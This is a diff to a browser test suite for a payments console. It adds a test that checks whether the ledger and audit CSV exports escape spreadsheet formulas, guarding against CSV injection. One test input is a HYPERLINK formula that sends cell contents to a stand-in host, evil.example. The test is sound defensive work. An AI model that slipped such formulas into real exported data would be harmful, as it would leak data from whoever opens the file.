@@ -9,6 +9,8 @@ Run by infra/check.sh:  .venv/bin/pytest tests/browser
   SCREENSHOTS a directory to save the main screens in (README's pictures), if set
 """
 
+import csv
+import io
 import json
 import os
 import re
@@ -315,6 +317,9 @@ def test_the_seed_flow_through_the_console(browser, server, language, width):
     page.get_by_role("link", name=console.t("nav.settings"), exact=True).click()
     console.heading(console.t("settings.title"))
     console.axe("settings")
+    page.get_by_label(console.t("settings.self_subscription")).uncheck()
+    page.get_by_role("button", name=console.t("settings.save")).click()
+    console.outcome(console.t("settings.saved"))
     page.get_by_role("link", name=console.t("nav.audit"), exact=True).click()
     console.heading(console.t("audit.title"))
     expect(page.locator("table tbody tr").first).to_be_visible()
@@ -394,6 +399,44 @@ def test_adding_a_user_by_keyboard_only(browser, server):
     keyboard.press("Enter")
     expect(page.get_by_role("heading", name="1 added")).to_be_visible()
     assert page.evaluate("() => document.activeElement?.tagName") == "H2"
+    page.close()
+
+
+def test_the_files_the_console_downloads_are_safe_to_open_in_a_spreadsheet(browser, server):
+    """CSV injection (OWASP): payment references typed into the console that a spreadsheet
+    would run as formulas are, in the ledger and audit files the console downloads, text."""
+    page = browser.new_page(accept_downloads=True, bypass_csp=True, viewport={"width": 390, "height": 844})
+    console = Console(page, server, "en")
+    who = names("en")
+    console.open()
+    console.sign_in(who["operator"])
+    page.get_by_label(console.t("operator.organization"), exact=True).fill(ORG)
+    page.get_by_role("button", name=console.t("home.open")).click()
+    formulas = ['=HYPERLINK("http://evil.example/?leak="&A2,"Invoice")', "+966500000000", "-1+1", "@SUM(1,2)"]
+    for n, reference in enumerate(formulas):
+        page.get_by_label(console.t("operator.amount")).fill(f"1.0{n + 1}")
+        page.get_by_label(console.t("operator.reference")).fill(reference)
+        page.get_by_role("button", name=console.t("operator.credit")).click()
+        console.outcome(re.compile(rf"1\.0{n + 1}"))
+
+    console.sign_in(who["abdullah"])
+    console.heading(re.compile("Al Nukhba"))
+    downloaded = {}
+    for tab, button in (("nav.balance", "ledger.export"), ("nav.audit", "audit.export")):
+        page.get_by_role("link", name=console.t(tab), exact=True).click()
+        with page.expect_download() as download:
+            page.get_by_role("button", name=console.t(button)).click()
+        rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8-sig"))))
+        assert rows, tab
+        for row in rows:
+            risky = [cell for cell in row.values() if cell and cell[0] in "=+-@\t\r"]
+            assert not risky, f"{tab}: a cell a spreadsheet would run: {risky}"
+        downloaded[tab] = rows
+    references = {row["reference"] for row in downloaded["nav.balance"]}
+    for reference in formulas:
+        assert f"'{reference}" in references, f"{reference} exported as text: {references}"
+    credits = [row for row in downloaded["nav.audit"] if row["action"] == "balance.credited"]
+    assert len(credits) >= len(formulas), "each credit is in the audit file too"
     page.close()
 
 
